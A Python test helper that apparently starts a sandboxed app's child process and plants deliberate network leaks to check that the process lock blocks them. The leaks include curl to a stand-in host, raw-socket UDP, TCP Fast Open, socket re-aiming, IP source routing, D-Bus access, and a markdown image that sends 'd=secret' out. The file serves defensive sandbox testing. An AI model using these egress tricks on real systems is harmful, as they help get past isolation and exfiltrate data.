"""Starts one of the program's real children: `child.py SETTINGS VERB --channel N`. SETTINGS is a JSON file:

locked   whether the child gives up its way out as it does in earnest; False shows that the judge is not blind
trigger  a file whose appearance sets off the planted leaks; "" plants none
results  a folder for what is known before the lock is on. What became of the leaks, and the pages that the window opened, are lines on
         standard error, `@@NAME JSON`: a locked process writes nowhere else that outlives it
port     the gateway's port, 0 while unknown      bus      the session bus      resolver   a local socket of a resolver
"""

from __future__ import annotations

import ctypes
import json
import os
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT))


def attempt(name: str, work: Callable[[], object], said: dict[str, str]) -> None:
    try:
        work()
        said[name] = "went"
    except TimeoutError:
        said[name] = "went"  # a packet left and nobody answered
    except BaseException as error:
        said[name] = f"{type(error).__name__}: {error}"


def tcp(host: str) -> None:
    with socket.socket() as made:
        made.settimeout(1)
        made.connect((host, 443))


def uvloop_tcp() -> None:
    import asyncio

    import uvloop

    async def go() -> None:
        await asyncio.wait_for(asyncio.open_connection("198.51.100.7", 443), 1)

    with asyncio.Runner(loop_factory=uvloop.new_event_loop) as runner:
        runner.run(go())


def native_udp() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    made = libc.socket(2, 2, 0)
    address = struct.pack("=H", 2) + struct.pack("!H", 8125) + socket.inet_aton("198.51.100.8") + bytes(8)
    if made < 0 or libc.sendto(made, b"stat", ctypes.c_size_t(4), 0, address, 16) < 0:
        raise OSError(ctypes.get_errno(), "sendto")


def fast_open() -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    made = libc.socket(2, 1, 0)
    address = struct.pack("=H", 2) + struct.pack("!H", 443) + socket.inet_aton("198.51.100.11") + bytes(8)
    if made < 0 or (libc.sendto(made, b"stat", ctypes.c_size_t(4), 0x20000000 | 0x40, address, 16) < 0 and ctypes.get_errno() != 115):
        raise OSError(ctypes.get_errno(), "sendto")


def re_aim() -> None:
    """Take a connection that a client made to us, undo it, and connect it elsewhere: from a loopback address that is the loopback."""
    libc = ctypes.CDLL(None, use_errno=True)
    for name in os.listdir("/proc/self/fd"):
        try:
            if not os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                continue
            one = socket.socket(fileno=os.dup(int(name)))
            peer = one.getpeername() if one.family == socket.AF_INET else None
        except OSError:
            continue
        if peer and peer[0] == "127.0.0.1":
            number = one.fileno()
            if libc.connect(number, struct.pack("=H14x", 0), 16) < 0:
                raise OSError(ctypes.get_errno(), "disconnect")
            address = struct.pack("=H", 2) + struct.pack("!H", 80) + socket.inet_aton("127.0.0.66") + bytes(8)
            if libc.connect(number, address, 16) < 0 and ctypes.get_errno() != 115:
                raise OSError(ctypes.get_errno(), "connect")
            return
    raise RuntimeError("there was no accepted connection to re-aim")


def source_route() -> None:
    """Give a connection to a provider, which the keeper handed over, a route by another host, and make the kernel look for its route."""
    for name in os.listdir("/proc/self/fd"):
        try:
            if not os.readlink(f"/proc/self/fd/{name}").startswith("socket:"):
                continue
            one = socket.socket(fileno=os.dup(int(name)))
            peer = one.getpeername() if one.family == socket.AF_INET else None
        except OSError:
            continue
        if peer and peer[1] == 443:
            one.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, bytes([1, 131, 7, 4]) + socket.inet_aton("198.51.100.12"))
            one.setsockopt(socket.IPPROTO_IP, socket.IP_TOS, 8)
            one.send(b"leak")
            return
    raise RuntimeError("there was no connection to a provider to give a route to")


def unix(path: str) -> Callable[[], None]:
    def work() -> None:
        with socket.socket(socket.AF_UNIX) as made:
            made.connect(path)
            made.sendall(b"leak")

    return work


def curl() -> None:
    subprocess.run(["curl", "-s", "-m", "2", "http://198.51.100.9/"], check=False, timeout=5)


def declare() -> None:
    """A host that nobody asked for, and one let go that nobody wanted to go, by the engine's own line to the keeper."""
    import gc

    from app.engine.lifeline import Lifeline

    gc.unfreeze()
    lines = [each for each in gc.get_objects() if isinstance(each, Lifeline)]
    lines[0].tell("declare", {"account": "extra", "scheme": "https", "host": "exfiltration.example", "port": 443, "local": False})
    lines[0].tell("withdraw", {"account": "one"})


def engine_leaks(settings: dict[str, Any]) -> dict[str, str]:
    said: dict[str, str] = {}
    attempt("look-up", lambda: socket.getaddrinfo("telemetry.vendor.example", 443), said)
    attempt("plain TCP", lambda: tcp("198.51.100.6"), said)
    attempt("TCP by uvloop", uvloop_tcp, said)
    attempt("UDP, native", native_udp, said)
    attempt("IPv6", lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"stat", ("2001:db8:dead::1", 8125)), said)
    attempt("mDNS", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"q", ("224.0.0.251", 5353)), said)
    attempt("child curl", curl, said)
    attempt("TCP Fast Open", fast_open, said)
    attempt("resolver socket", unix(settings["resolver"]), said)
    attempt("D-Bus", unix(settings["bus"]), said)
    attempt("re-aimed accepted descriptor", re_aim, said)
    attempt("source route", source_route, said)
    attempt("declaration", declare, said)
    return said


def plant(settings: dict[str, Any]) -> None:
    def wait() -> None:
        while not Path(settings["trigger"]).exists():
            time.sleep(0.1)
        tell("engine", engine_leaks(settings))

    threading.Thread(target=wait, name="planted", daemon=True).start()


def tell(name: str, said: object) -> None:
    os.write(2, f"@@{name} {json.dumps(said)}\n".encode())


def write(settings: dict[str, Any], name: str, said: object) -> None:
    part = Path(settings["results"]) / f"{name}.part"
    part.write_text(json.dumps(said))
    part.rename(part.with_suffix(".json"))


def window(settings: dict[str, Any], arguments: list[str]) -> int:
    """The real window, in which a timer opens every page and, when told to, plants leaks."""
    from PySide6.QtCore import QTimer

    import app.gui.main as gui
    from app.gui.pages import PAGES

    class Walking(gui.Desk):
        def show(self) -> None:
            super().show()
            self._left = list(PAGES)
            self._walk = QTimer(self)
            self._walk.timeout.connect(self._step)
            self._walk.start(400)

        def _step(self) -> None:
            if self._left:
                self.window.open_page(self._left.pop(0))
                if not self._left:
                    tell("pages", list(PAGES))
            elif settings["trigger"] and Path(settings["trigger"]).exists():
                self._walk.stop()
                self._leak()

        def _leak(self) -> None:
            from PySide6.QtCore import QUrl
            from PySide6.QtNetwork import QNetworkAccessManager, QNetworkRequest, QTcpSocket
            from PySide6.QtWidgets import QLabel, QTextBrowser

            said: dict[str, str] = {}
            self._manager = QNetworkAccessManager(self)
            self._manager.get(QNetworkRequest(QUrl("http://198.51.100.71/")))
            self._tcp = QTcpSocket(self)
            self._tcp.connectToHost("198.51.100.72", 80)
            self._browser = QTextBrowser()
            self._browser.setMarkdown("# hi\n![x](http://198.51.100.66/p.png?d=secret)\n<img src='http://198.51.100.67/'>")
            self._browser.show()
            self._label = QLabel("<img src='http://198.51.100.68/p.png'><svg><image href='http://198.51.100.69/'/></svg>")
            self._label.show()
            attempt("window: plain TCP", lambda: tcp("198.51.100.73"), said)
            attempt("window: look-up", lambda: socket.getaddrinfo("window.vendor.example", 443), said)
            QTimer.singleShot(2500, lambda: tell("window", said | {"Qt": self._tcp.errorString()}))

    gui.Desk = Walking  # type: ignore[misc]
    return gui.run(arguments)


def main() -> int:
    settings = json.loads(Path(sys.argv[1]).read_text())
    write(settings, f"environment of {sys.argv[2]}", sorted(os.environ))
    verb, arguments = sys.argv[2], sys.argv[3:]
    from app import __main__ as door

    if settings["locked"]:
        door._lock(verb)
    door._lock = lambda child: None  # it is done, or is not to be
    if verb == "gui":
        return window(settings, arguments)
    if verb == "engine" and settings["trigger"]:
        plant(settings)
    return door.main([verb, *arguments])


if __name__ == "__main__":
    sys.exit(main())
